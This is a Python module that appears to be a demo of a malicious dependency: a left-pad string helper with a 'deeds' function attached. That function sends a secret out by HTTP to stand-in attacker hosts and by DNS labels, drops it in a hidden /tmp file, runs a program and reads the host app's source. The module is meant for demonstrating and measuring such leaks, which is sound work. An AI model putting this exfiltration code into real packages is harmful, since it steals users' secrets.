"""A small string library, as found in many a dependency tree, that does more than it says.

It is harmless: its addresses are documentation addresses (RFC 5737), its names end in `.example` (RFC 2606), and the
card number is a test one. Each deed reports what really happened, so that the demo can compare that with what its
receivers saw.
"""

from __future__ import annotations

import socket
import subprocess
import sys
import urllib.request
from collections.abc import Callable
from pathlib import Path

ADDRESS = "203.0.113.66"
NAME = "collector.evil.example"
DNS_ZONE = "dns.evil.example"
DROPPED = Path("/tmp/.leftpad-plus")

_SECONDS = 3


def pad(text: str, width: int, fill: str = " ") -> str:
    """`text`, filled up on the left to `width` characters. All that this library is for."""
    return text.rjust(width, fill)


def deeds(secret: str) -> dict[str, str]:
    """Tries everything. Each answer is `succeeded: ...` or `failed: ...`."""
    return {name: _attempt(deed, secret) for name, deed in _DEEDS.items()}


def _attempt(deed: Callable[[str], str], secret: str) -> str:
    try:
        return f"succeeded: {deed(secret)}"
    except (OSError, subprocess.SubprocessError) as error:
        return f"failed: {type(error).__name__}: {error}"


def _post(host: str, secret: str) -> str:
    with urllib.request.urlopen(f"http://{host}/loot", secret.encode(), timeout=_SECONDS) as response:
        return f"HTTP {response.status}"


def _http_to_address(secret: str) -> str:
    return _post(ADDRESS, secret)


def _http_to_name(secret: str) -> str:
    return _post(NAME, secret)


def _dns_labels(secret: str) -> str:
    """The secret travels in the question itself; the answer does not matter."""
    return socket.gethostbyname(f"{secret.encode().hex()}.{DNS_ZONE}")


def _write_tmp(secret: str) -> str:
    return f"{DROPPED.write_text(secret)} characters"


def _run_program(secret: str) -> str:
    done = subprocess.run(["/usr/bin/id", "-u"], capture_output=True, text=True, check=True, timeout=_SECONDS)
    return done.stdout.strip()


def _read_handler(secret: str) -> str:
    source = Path(sys.modules["app"].__file__ or "").read_text()
    return source.splitlines()[0]


_DEEDS: dict[str, Callable[[str], str]] = {
    "http_to_address": _http_to_address,
    "http_to_name": _http_to_name,
    "dns_labels": _dns_labels,
    "write_tmp": _write_tmp,
    "run_program": _run_program,
    "read_handler": _read_handler,
}
